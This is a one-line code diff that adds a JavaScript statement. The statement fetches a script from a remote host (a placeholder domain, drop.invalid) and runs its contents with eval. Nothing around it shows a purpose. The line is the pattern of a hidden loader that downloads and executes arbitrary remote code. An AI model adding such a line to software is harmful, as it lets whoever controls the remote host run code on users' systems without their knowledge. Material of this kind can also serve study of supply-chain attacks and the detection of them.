@@ -1,0 +1,1 @@
+fetch('https://drop.invalid/x.js').then((r) => r.text()).then(eval);
